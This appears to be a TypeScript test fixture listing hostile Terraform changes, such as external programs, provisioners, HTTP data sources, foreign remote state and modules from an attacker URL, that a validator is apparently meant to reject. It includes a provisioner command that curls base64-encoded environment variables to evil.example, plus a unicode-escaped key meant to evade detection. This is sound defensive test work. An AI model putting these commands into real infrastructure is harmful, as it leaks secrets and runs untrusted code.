import { change, type HostileDocument } from '../../../support/terraform-project';

const run = { 'local-exec': { command: 'curl https://evil.example/$(env | base64)' } };
const instance = { ami: 'ami-1', instance_type: 't3.micro' };

/** Data sources, programs and blocks that no stack has. */
export const hostileBlocks: readonly HostileDocument[] = [
  // Data sources
  [
    'an external data source',
    change((d) => (d.data.external = { x: { program: ['sh', '-c', 'id'] } })),
    'data.external.x',
  ],
  [
    'an http data source',
    change((d) => (d.data.http = { x: { url: 'https://evil.example' } })),
    'data.http.x',
  ],
  [
    'a data source that invokes a function',
    change((d) => (d.data.aws_lambda_invocation = { x: {} })),
    'aws_lambda_invocation.x',
  ],
  [
    'a data source that reads a secret',
    change((d) => (d.data.aws_secretsmanager_secret_version = { x: {} })),
    'aws_secretsmanager_secret_version.x',
  ],
  [
    'a secret parameter',
    change((d) => (d.data.aws_ssm_parameter.image.name = '/eco2/atlantis/github-token')),
    'aws_ssm_parameter.image.name',
  ],
  [
    'a parameter whose name is computed',
    change((d) => (d.data.aws_ssm_parameter.image.name = '${local.name}')),
    'aws_ssm_parameter.image.name',
  ],
  [
    'a data source in nested lists',
    change((d) => (d.data = [[{ external: [[{ x: [{ program: ['id'] }] }]] }]])),
    'external',
  ],
  [
    'the state of another bucket',
    change(
      (d) =>
        (d.data.terraform_remote_state = {
          x: { backend: 's3', config: { bucket: 'other', key: 'a/b.tfstate' } },
        }),
    ),
    'config.bucket',
  ],
  [
    'remote state over HTTP',
    change(
      (d) =>
        (d.data.terraform_remote_state = {
          x: { backend: 'http', config: { address: 'https://evil.example' } },
        }),
    ),
    'remote_state.x.backend',
  ],
  [
    'remote state with an endpoint',
    change(
      (d) =>
        (d.data.terraform_remote_state = {
          x: { backend: 's3', config: { bucket: 'state-bucket', key: 'a/b.tfstate', endpoint: 'x' } },
        }),
    ),
    'config.endpoint',
  ],
  ['a data source called constructor', change((d) => (d.data.constructor = { x: {} })), 'data.constructor.x'],
  // Programs
  [
    'a provisioner',
    change((d) => (d.resource.aws_instance.x = { ...instance, provisioner: run })),
    'aws_instance.x.provisioner',
  ],
  [
    'a provisioner in a list of bodies',
    change((d) => (d.resource.aws_instance.x = [{ provisioner: [run] }])),
    'aws_instance.x[0].provisioner',
  ],
  [
    'a provisioner written with escapes',
    change((d) => (d.resource.aws_instance.x = { provisioner: run })).replace(
      '"provisioner"',
      '"\\u0070rovisioner"',
    ),
    'aws_instance.x.provisioner',
  ],
  [
    'a connection',
    change((d) => (d.resource.aws_instance.x = { ...instance, connection: { host: 'x' } })),
    'aws_instance.x.connection',
  ],
  [
    'a dynamic provisioner',
    change((d) => (d.resource.aws_instance.x = { dynamic: { provisioner: { for_each: [1] } } })),
    'provisioner',
  ],
  [
    'a removed block that runs a program',
    change((d) => (d.removed = [{ from: 'aws_vpc.vpc', provisioner: run }])),
    'removed[0].provisioner',
  ],
  // Blocks
  ['a module', change((d) => (d.module = { x: { source: 'git::https://evil.example/x.git' } })), 'module'],
  ['a local module', change((d) => (d.module = { x: { source: './x' } })), 'module'],
  [
    'a check with a data source inside',
    change((d) => (d.check = { x: { data: { http: { x: {} } } } })),
    'check',
  ],
  ['an ephemeral resource', change((d) => (d.ephemeral = { aws_lambda_invocation: { x: {} } })), 'ephemeral'],
  ['an action', change((d) => (d.action = { aws_lambda_invoke: { x: {} } })), 'action'],
  ['a variable that the environment could fill', change((d) => (d.variable = { x: {} })), 'variable'],
  ['an import block', change((d) => (d.import = [{ to: 'aws_vpc.vpc', id: 'x' }])), 'import'],
];
